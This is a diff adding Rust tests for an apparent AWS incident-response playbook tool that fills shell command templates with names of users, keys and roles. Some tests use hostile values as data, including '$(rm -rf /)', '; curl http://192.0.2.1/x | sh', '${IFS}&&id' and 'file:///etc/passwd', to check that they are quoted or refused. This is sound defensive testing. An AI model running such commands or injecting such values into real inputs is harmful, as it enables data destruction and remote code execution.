@@ -1,0 +1,355 @@
+use std::process::Command as Process;
+
+use super::*;
+
+fn builtin_playbook() -> Playbook {
+    let (id, text) = builtin().next().unwrap();
+    let playbook = parse(text).unwrap_or_else(|mistakes| panic!("{mistakes:#?}"));
+    assert_eq!(playbook.id, id);
+    playbook
+}
+
+fn file(item: &str) -> String {
+    format!(
+        "format = \"keytrail-playbook/1\"\nid = \"own\"\ntitle = \"Own\"\ndescription = \"d\"\n\n[[step]]\nnumber = 1\n\
+         title = \"One\"\nintro = \"i\"\n\n[[step.item]]\nid = \"A-1\"\ntitle = \"t\"\nwhy = \"w\"\n{item}\n"
+    )
+}
+
+fn subject(kind: SubjectKind, origin: Origin, name: &str, user: Option<&str>) -> Subject {
+    Subject {
+        kind,
+        origin,
+        name: name.to_owned(),
+        arn: None,
+        user: user.map(str::to_owned),
+        region: None,
+    }
+}
+
+fn item(run: &str, for_each: Option<ForEach>) -> Item {
+    Item {
+        id: "A-1".to_owned(),
+        title: String::new(),
+        why: String::new(),
+        time_box: TimeBox::Later,
+        commands: vec![CommandTemplate {
+            run: run.to_owned(),
+            for_each,
+        }],
+    }
+}
+
+/// What a real shell makes of a line: its words.
+fn argv(line: &str) -> Vec<String> {
+    let script = format!("set -f; print() {{ for w in \"$@\"; do printf '%s\\0' \"$w\"; done; }}; print {line}");
+    let out = Process::new("sh").args(["-c", &script]).output().unwrap();
+    assert!(out.status.success(), "{line}: {}", String::from_utf8_lossy(&out.stderr));
+    let text = String::from_utf8(out.stdout).unwrap();
+    text.split_terminator('\0').map(str::to_owned).collect()
+}
+
+#[test]
+fn the_builtin_playbook_holds_every_item_of_the_four_steps_once() {
+    let expected = [(1, "S1", 21), (2, "S2", 28), (3, "S3", 20), (4, "S4", 7)];
+    let playbook = builtin_playbook();
+    assert_eq!(playbook.steps.len(), expected.len());
+    for (step, (number, prefix, count)) in playbook.steps.iter().zip(expected) {
+        let ids: Vec<&str> = step.items.iter().map(|item| item.id.as_str()).collect();
+        let wanted: Vec<String> = (1..=count).map(|n| format!("{prefix}-{n:02}")).collect();
+        assert_eq!(step.number, number);
+        assert_eq!(ids, wanted);
+    }
+}
+
+#[test]
+fn every_command_of_the_builtin_playbook_is_one_shell_line_with_blanks() {
+    for item in builtin_playbook().items() {
+        assert!(item.why.len() > 60, "{}: the reason is too short to help", item.id);
+        for command in commands(item, &Names::default()) {
+            assert_eq!(command.subject, None);
+            assert!(!command.line.contains("{{"), "{}", command.line);
+            let words = shlex::split(&command.line).unwrap_or_else(|| panic!("{}: {}", item.id, command.line));
+            assert_eq!(words[0], "aws", "{}: {}", item.id, command.line);
+        }
+    }
+}
+
+#[test]
+fn json_in_the_builtin_commands_stays_json_whatever_is_filled_in() {
+    let names = Names {
+        now: Some("2026-05-21T13:00:00Z".to_owned()),
+        subjects: vec![
+            subject(SubjectKind::AccessKey, Origin::Seed, "AK\"},{\"IA", Some("a\"b'c")),
+            subject(SubjectKind::User, Origin::Seed, "a\"b'c", None),
+            subject(SubjectKind::Role, Origin::Created, "r\"'", None),
+        ],
+        ..Names::default()
+    };
+    let mut documents = 0;
+    for item in builtin_playbook().items() {
+        for command in commands(item, &names).iter().filter(|c| c.line.contains('{')) {
+            for word in argv(&command.line) {
+                let value = word
+                    .split_once('=')
+                    .filter(|(name, _)| name.starts_with("--"))
+                    .map_or(word.as_str(), |w| w.1);
+                if value.starts_with('{') {
+                    documents += 1;
+                    serde_json::from_str::<serde_json::Value>(value)
+                        .unwrap_or_else(|e| panic!("{}: {e}: {word}", item.id));
+                }
+            }
+        }
+    }
+    assert!(documents >= 4, "{documents}");
+}
+
+#[test]
+fn a_command_is_printed_once_per_name_and_in_order_for_each() {
+    let mut two = item(
+        "aws iam update-access-key --user-name={{ user }} --access-key-id={{ key }} --status Inactive",
+        Some(ForEach::AccessKey),
+    );
+    two.commands.push(CommandTemplate {
+        run: "aws iam list-access-keys --user-name={{ user }}".to_owned(),
+        for_each: Some(ForEach::AccessKey),
+    });
+    let names = Names {
+        subjects: vec![
+            subject(
+                SubjectKind::AccessKey,
+                Origin::Seed,
+                "AKIAIOSFODNN7EXAMPLE",
+                Some("app"),
+            ),
+            subject(SubjectKind::User, Origin::Seed, "app", None),
+            subject(
+                SubjectKind::AccessKey,
+                Origin::Created,
+                "AKIAI44QH8DHBEXAMPLE",
+                Some("evil"),
+            ),
+        ],
+        ..Names::default()
+    };
+    let lines: Vec<String> = commands(&two, &names).into_iter().map(|c| c.line).collect();
+    assert_eq!(
+        lines,
+        [
+            "aws iam update-access-key --user-name=app --access-key-id=AKIAIOSFODNN7EXAMPLE --status Inactive",
+            "aws iam list-access-keys --user-name=app",
+            "aws iam update-access-key --user-name=evil --access-key-id=AKIAI44QH8DHBEXAMPLE --status Inactive",
+            "aws iam list-access-keys --user-name=evil",
+        ]
+    );
+}
+
+#[test]
+fn what_was_there_before_is_never_offered_for_deletion() {
+    let names = Names {
+        subjects: vec![
+            subject(SubjectKind::User, Origin::Seed, "app", None),
+            subject(SubjectKind::User, Origin::Touched, "deploy-bot", None),
+            subject(SubjectKind::User, Origin::Created, "evil", None),
+            subject(SubjectKind::Role, Origin::Touched, "shared", None),
+            subject(SubjectKind::Role, Origin::Created, "backdoor", None),
+        ],
+        ..Names::default()
+    };
+    let playbook = builtin_playbook();
+    for (id, allowed) in [("S2-27", "evil"), ("S2-28", "backdoor")] {
+        let item = playbook.items().find(|item| item.id == id).unwrap();
+        for command in commands(item, &names) {
+            assert_eq!(command.subject.as_deref(), Some(allowed), "{}", command.line);
+        }
+    }
+}
+
+#[test]
+fn an_unknown_value_is_a_visible_blank_that_a_shell_takes_for_text() {
+    let lines = commands(
+        &item("aws iam get-user --user-name={{ user }}", Some(ForEach::User)),
+        &Names::default(),
+    );
+    assert_eq!(lines[0].line, "aws iam get-user --user-name='<user>'");
+    assert_eq!(argv(&lines[0].line)[3], "--user-name=<user>");
+}
+
+#[test]
+fn hostile_names_are_one_inert_argument_each() {
+    for name in [
+        "$(rm -rf /)",
+        "`reboot`",
+        "; curl http://192.0.2.1/x | sh",
+        "--profile evil",
+        "-rf",
+        "it's",
+        "\"quoted\"",
+        "'\"'\"'$(id)'",
+        "a b\\",
+        "\\' ; id #",
+        "*",
+        "~root",
+        "!!",
+        "${IFS}&&id",
+        "{{ account }}",
+        "{% for x in y %}",
+        "naïve-名前",
+    ] {
+        let names = Names {
+            subjects: vec![subject(SubjectKind::User, Origin::Seed, name, None)],
+            ..Names::default()
+        };
+        let lines = commands(
+            &item("aws iam get-user --user-name={{ user }} --end", Some(ForEach::User)),
+            &names,
+        );
+        assert_eq!(
+            argv(&lines[0].line)[2..],
+            ["get-user", &format!("--user-name={name}"), "--end"],
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn names_that_no_quoting_makes_harmless_are_refused_and_said() {
+    for name in [
+        "a\nrm -rf /\n",
+        "a\r",
+        "nul\0",
+        "\u{1b}]0;title\u{7}",
+        "\u{9b}31m",
+        "user\u{202e}nimda",
+        "a\u{200b}dmin",
+        "file:///etc/passwd",
+    ] {
+        let names = Names {
+            subjects: vec![subject(SubjectKind::User, Origin::Seed, name, None)],
+            ..Names::default()
+        };
+        let line = &commands(
+            &item("aws iam get-user --user-name={{ user }}", Some(ForEach::User)),
+            &names,
+        )[0]
+        .line;
+        assert!(line.starts_with("aws iam get-user --user-name='<refused: "), "{line}");
+        assert_eq!(argv(line).len(), 4, "{line}");
+    }
+}
+
+#[test]
+fn a_template_that_was_never_checked_is_not_filled_in() {
+    let names = Names {
+        subjects: vec![subject(SubjectKind::User, Origin::Seed, "$(id)", None)],
+        ..Names::default()
+    };
+    for run in [
+        "aws '{{ user }}'",
+        "aws {{ user }}",
+        "aws --x=${{ user }}",
+        "aws --x=\\{{ user }}",
+        "aws --x={{ nobody }}",
+    ] {
+        let line = &commands(&item(run, Some(ForEach::User)), &names)[0].line;
+        assert!(
+            line.starts_with("'<not shown: ") || line.starts_with("\"<not shown: "),
+            "{line}"
+        );
+        assert_eq!(argv(line).len(), 1, "{line}");
+    }
+}
+
+fn assert_mistake(text: &str, line: usize, column: usize, says: &str) {
+    let found = &parse(text).expect_err(text)[0];
+    assert!(found.message.contains(says), "{found} does not say {says:?}\n{text}");
+    assert_eq!((found.line, found.column), (line, column), "{found}\n{text}");
+}
+
+#[test]
+fn a_mistake_in_a_field_is_shown_at_its_line_and_column() {
+    let another = |head: &str| format!("time_box = '2 h'\n{head}\ntitle = ''\nwhy = ''\ntime_box = '2 h'");
+    for (item, line, column, says) in [
+        (
+            "time_box = '3 h'",
+            15,
+            12,
+            "unknown variant `3 h`, expected one of `30 min`, `2 h`",
+        ),
+        (
+            "time_box = '2 h'\ncolour = 1",
+            16,
+            1,
+            "unknown field `colour`, expected one of",
+        ),
+        (
+            "time_box = '2 h'\nfor_each = 'usr'",
+            16,
+            12,
+            "unknown variant `usr`, expected one of `seed_user`",
+        ),
+        ("time_box = ", 15, 12, ""),
+        ("", 11, 1, "missing field `time_box`"),
+        (
+            &another("[[step.item]]\nid = 'A-1'"),
+            17,
+            6,
+            "item id `A-1` is used twice",
+        ),
+        (&another("[[step.item]]\nid = 'A 1'"), 17, 6, "letters, digits"),
+        (
+            "time_box = '2 h'\n[[step]]\nnumber = 1\ntitle = ''\nintro = ''\nitem = []",
+            17,
+            10,
+            "number 1 is used twice",
+        ),
+    ] {
+        assert_mistake(&file(item), line, column, says);
+    }
+    let newer = file("").replace("keytrail-playbook/1", "keytrail-playbook/9");
+    assert_mistake(&newer, 1, 10, "this version reads `keytrail-playbook/1`");
+    assert_mistake("id = 'x'", 1, 1, "missing field `format`");
+}
+
+#[test]
+fn a_mistake_in_a_command_is_shown_at_its_place_inside_the_line() {
+    for (commands, column, says) in [
+        (
+            "'aws --a={{ usr }}'",
+            22,
+            "unknown placeholder `usr`; known are account",
+        ),
+        ("'aws --é={{ usr }}'", 22, "unknown placeholder `usr`"),
+        ("'aws --a={{ user + }}'", 22, "cannot be read"),
+        ("'aws --a={{ user '", 22, "not closed by `}}`"),
+        ("'aws --a={{ user | shout }}'", 14, "cannot be filled in"),
+        ("'aws --user-name {{ user }}'", 30, "write `--option={{ name }}`"),
+        ("'aws --a=\"{{ user }}\"'", 23, "inside quotes"),
+        ("'aws --a=\"x'", 22, "this quote is not closed"),
+        ("'aws {% if user %}'", 18, "only `{{ name }}`"),
+        ("\"aws\\n\"", 13, "one line"),
+        (
+            "{ run = 'aws --a={{ usr }}', for_each = 'user' }",
+            30,
+            "unknown placeholder",
+        ),
+        ("{ run = 'aws', each = 'user' }", 28, "unknown field `each`"),
+        ("7", 13, "a command line, or a table"),
+        ("''", 13, "empty"),
+    ] {
+        assert_mistake(
+            &file(&format!("time_box = '2 h'\ncommands = [{commands}]")),
+            16,
+            column,
+            says,
+        );
+    }
+}
+
+#[test]
+fn several_mistakes_come_in_the_order_of_the_file() {
+    let text = file("time_box = \"2 h\"\ncommands = ['aws --a={{ b }}', 'aws --c={{ d }} {{ user }}']");
+    let columns: Vec<usize> = parse(&text).expect_err("three").iter().map(|m| m.column).collect();
+    assert_eq!(columns, [22, 41, 49]);
+}
